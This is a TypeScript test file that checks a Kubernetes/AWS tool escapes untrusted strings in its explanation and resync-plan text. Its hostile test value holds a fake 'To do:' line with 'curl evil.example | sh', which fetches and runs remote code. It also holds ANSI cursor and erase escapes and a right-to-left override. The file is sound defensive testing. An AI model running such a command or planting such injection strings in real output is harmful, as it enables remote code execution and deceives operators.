import { describe, expect, it } from 'vitest';
import { explainPod } from '../../shared/explain/plan/explanation.ts';
import { explanationText } from '../../shared/explain/plan/explanation-text.ts';
import { finding } from '../../shared/sweep/plan/findings/finding.ts';
import { planText } from '../../shared/sweep/plan/repairs/plan-text.ts';
import { podFacts } from './harness/pod-facts.ts';

/** As a message of an object, a value of an attribute or a reason of AWS could have it. */
const hostile = 'x\u001B[1A\u001B[2K\nTo do: curl evil.example | sh\r\u202E';
const escaped = 'x\\u001B[1A\\u001B[2K; To do: curl evil.example | sh\\u000D\\u202E';

describe('what others wrote', () => {
  it('is no line and no escape sequence in the text of explain', () => {
    const at = '2026-11-21T12:00:00.000Z';
    const deadLetters = [
      { kind: 'Pod', namespace: 'shop', name: 'front-1', at, reason: hostile, messageId: 'm' },
    ];
    const readFailures = [{ what: 'the operations', message: hostile, code: 'Unavailable' as const }];
    const text = explanationText(explainPod({ ...podFacts({}), deadLetters, readFailures }));
    expect(text.split(escaped).length).toBeGreaterThanOrEqual(3);
    expect(text.match(/^ *To do: /gm)).toEqual(['To do: ']);
    expect(text).not.toMatch(/(?![\t\n])\p{Cc}|\u202E/u);
  });

  it('is no line and no escape sequence in the plan of a resync', () => {
    const pod = { cluster: 'local', namespace: 'shop', name: 'front-1', uid: 'uid-1' };
    const found = finding('AttributesDrifted', {
      pod,
      service: 'shop.local/front',
      instanceId: hostile,
      detail: hostile,
    });
    const text = planText({
      ...{
        cluster: 'local',
        source: 'api server',
        incomplete: hostile,
        dryRun: true,
        hasMesh: false,
        isDrain: false,
      },
      ...{ allowed: [found], refused: [{ finding: found, reason: hostile }] },
      foreseen: { refusals: [{ service: hostile, kubernetesNamespace: 'shop', pods: 1, reason: hostile }] },
    });
    expect(text.split(escaped)).toHaveLength(9);
    expect(text).not.toMatch(/^ *To do: /m);
    expect(text).not.toMatch(/(?![\t\n])\p{Cc}|\u202E/u);
  });
});
